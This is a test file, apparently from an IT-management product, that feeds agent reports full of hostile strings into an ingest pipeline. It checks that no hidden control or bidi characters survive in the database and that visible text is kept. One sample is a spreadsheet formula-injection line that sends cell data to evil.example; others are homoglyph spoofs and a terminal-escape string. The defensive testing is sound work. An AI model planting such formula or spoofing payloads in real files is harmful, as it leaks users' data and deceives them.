import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hostileTextReport } from '@/ingest/testing/hostile-text-report';
import { HOSTILE_TEXTS } from '@/test/hostile-texts';
import { openScreenCast, type CastMsp, type ScreenCast } from '@/test/screen-cast';

// Whatever a machine calls its things, what is kept of it can be shown, written to a file and sent on.
let cast: ScreenCast;
let msp: CastMsp;

/** Whether something hides in a text, in SQL; the lines that a message may have do not. */
const HIDES = (text: string): string => String.raw`(regexp_replace(${text}, '[\n\t]|\\[nt]', '', 'g')
  ~ '[\x01-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff]|\\u00[01]')`;

beforeAll(async () => {
  cast = await openScreenCast();
  msp = await cast.newMsp('Quillmark IT');
  const machine = await msp.newAgent('fs-01');
  const now = new Date();
  for (const [index, { text }] of HOSTILE_TEXTS.entries())
    await machine.send(hostileTextReport(machine.agent, text, index), now, false);
  await msp.work(now);
});
afterAll(() => cast.close());

describe('what is kept of reports that call everything by a hostile text', () => {
  it('is all of it: every report is processed at the first try, and none is put aside', async () => {
    const states = await cast.rows(
      'SELECT state, attempts, reason, count(*)::int FROM app.inbox GROUP BY 1, 2, 3',
    );
    expect(states).toEqual([{ state: 'processed', attempts: 0, reason: null, count: HOSTILE_TEXTS.length }]);
    const [runs] = await cast.rows('SELECT count(*)::int AS count FROM app.run');
    expect(runs).toEqual({ count: HOSTILE_TEXTS.length });
  });

  it('holds nothing that hides, in no column of any table', async () => {
    const columns = await cast.rows(
      `SELECT format('%I.%I', table_schema, table_name) AS "table", column_name AS "column"
       FROM information_schema.columns JOIN information_schema.tables USING (table_schema, table_name)
       WHERE table_schema IN ('app', 'audit') AND table_type = 'BASE TABLE'
         AND (data_type IN ('text', 'jsonb') OR udt_name = '_text')`,
    );
    expect(columns.length).toBeGreaterThan(50);
    // The check itself sees what hides, as it is and as jsonb spells it.
    const [seen] = await cast.rows(
      `SELECT ${HIDES('chr(27)')} AND ${HIDES('chr(8238)')} AND ${HIDES('to_jsonb(chr(27))::text')}
         AND NOT ${HIDES("'a'||chr(10)||'b'")} AND NOT ${HIDES("to_jsonb('a'||chr(10)||'b')::text")} AS right`,
    );
    expect(seen).toEqual({ right: true });
    const hiding: string[] = [];
    for (const { table, column } of columns) {
      const found = await cast.rows(
        `SELECT FROM ${String(table)} WHERE ${HIDES(`"${String(column)}"::text`)} LIMIT 1`,
      );
      if (found.length > 0) hiding.push(`${String(table)}.${String(column)}`);
    }
    expect(hiding).toEqual([]);
  });

  it('keeps every visible text as it is', async () => {
    const names = await cast.rows('SELECT name FROM app.job');
    const kept = new Set(names.map(({ name }) => name));
    for (const text of [
      'النسخ الاحتياطي גיבוי',
      'Аdmіnіstrаtоr ⅼocaⅼhost ﬁle',
      '=HYPERLINK("https://evil.example?"&A1,"open me")',
    ])
      expect(kept).toContain(text);
    expect(kept).toContain('␛[2J␛[H␛]0;owned␇');
  });
});
